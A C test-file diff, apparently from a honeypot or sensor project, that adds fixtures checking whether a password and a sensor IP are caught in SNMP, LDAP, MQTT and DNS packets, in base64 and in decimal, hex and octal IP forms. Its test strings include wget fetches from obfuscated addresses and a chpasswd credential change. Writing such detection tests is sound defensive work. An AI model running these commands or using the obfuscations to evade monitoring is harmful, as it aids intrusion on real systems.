@@ -224,17 +224,37 @@ static void other_sensor(struct span *s)
 #define BASIC    "YWRtaW46Wng3LXVucHVibGlzaGVkLTlx" /* admin:PASSWORD */
 #define SENSOR   "203.0.113.5"
 
-static void secret_content(struct span *s, uint8_t id, uint16_t port, const char *text,
+static void secret_content(struct span *s, uint8_t id, uint16_t port, struct text_ref bytes,
                            bool dialogue)
 {
-    content(s, id, keep(s, text, strlen(text)), false, "");
+    content(s, id, bytes, false, "");
     s->payloads[s->rows.payload_count - 1].dialogue = dialogue;
     said(s, id, "192.0.2.9", port, id, 1);
 }
 
 static void secrets(struct span *s)
 {
+    static const struct {
+        const char *bytes;
+        size_t length;
+    } binary[] = {
+#define BYTES(text) {text, sizeof(text) - 1}
+        BYTES("0\x32\2\1\1\4\x12" PASSWORD "\xa0\x19\2"),
+        BYTES("0\x1c\2\1\1\x60\x17\2\1\3\4\4cn=a\x80\x12" PASSWORD),
+        BYTES("\x10\x27\0\4MQTT\4\xc2\0<\0\1c\0\2ab\0\x12" PASSWORD),
+        BYTES("\4\1\0P\xcb\0q\5\0"),
+        BYTES("ip \5q\0\xcb ip"),
+        BYTES("\0\1\1\0\0\1\0\0\0\0\0\0\0015\003113\0010\003203\7in-addr\4arpa\0\0\x0c\0\1"),
+        BYTES("\\\0\\\0002\0000\0003\0.\0000\0.\0001\0001\0003\0.\0005\0\\\0"),
+#undef BYTES
+    };
     static const char *const contents[] = {
+        "GET /cgi-bin/x?u=admin&p=" PASSWORD " HTTP/1.1\r\n\r\n",
+        "GET / HTTP/1.0\r\nX: Basic " BASIC "\r\n\r\n",
+        "GET /?h=3405803781&h=0xcb007105&h=0313.0.0161.05&h=cb007105 HTTP/1.0\r\n\r\n",
+        "GET /?h=MjAzLjAuMTEzLjU= HTTP/1.0\r\n\r\n",
+        "PORT 203,0,113,5,4,1\r\n",
+        "ping 5.113.0.203.in-addr.arpa ::ffff:cb00:7105",
         "USER admin\r\nPASS " PASSWORD "\r\n",
         "a1 LOGIN admin " PASSWORD "\r\n",
         "GET / HTTP/1.0\r\nAuthorization: Basic " BASIC "\r\n\r\n",
@@ -254,6 +274,7 @@ static void secrets(struct span *s)
         "wget http://admin:" PASSWORD "@192.0.2.9/x",
         "echo root:" PASSWORD "|chpasswd",
         "wget http://" SENSOR "/x",
+        "wget http://3405803781/x; wget http://0xcb007105/x; ping 203.28933",
     };
     static const char *const with_user[] = {"http://admin:" PASSWORD "@192.0.2.9/x", "192.0.2.9",
                                             "x", ""};
@@ -264,9 +285,12 @@ static void secrets(struct span *s)
     talk_to(s, 10, "192.0.2.9", 23, 120, true);
     login(s, 11, "192.0.2.9", KEEP(s, "root"), KEEP(s, PASSWORD), LOGIN_LIST_NONE, true);
     login(s, 12, "192.0.2.9", KEEP(s, "admin"), KEEP(s, PASSWORD), LOGIN_LIST_OWN, true);
-    secret_content(s, 0xee, 23, "root\r\n" PASSWORD "\r\nenable\r\n", true);
+    secret_content(s, 0xee, 23, KEEP(s, "root\r\n" PASSWORD "\r\nenable\r\n"), true);
     for (size_t i = 0; i < sizeof contents / sizeof contents[0]; i++)
-        secret_content(s, (uint8_t)(i + 1), 80, contents[i], false);
+        secret_content(s, (uint8_t)(i + 1), 80, keep(s, contents[i], strlen(contents[i])), false);
+    for (size_t i = 0; i < sizeof binary / sizeof binary[0]; i++)
+        secret_content(s, (uint8_t)(i + 101), 161, keep(s, binary[i].bytes, binary[i].length),
+                       false);
     for (uint32_t i = 0; i < sizeof commands / sizeof commands[0]; i++)
         command(s, 20 + i, "192.0.2.9", keep(s, commands[i], strlen(commands[i])), KEEP(s, ""));
     download(s, 31, "192.0.2.9", 23, DOWNLOAD_WGET, true, with_user);
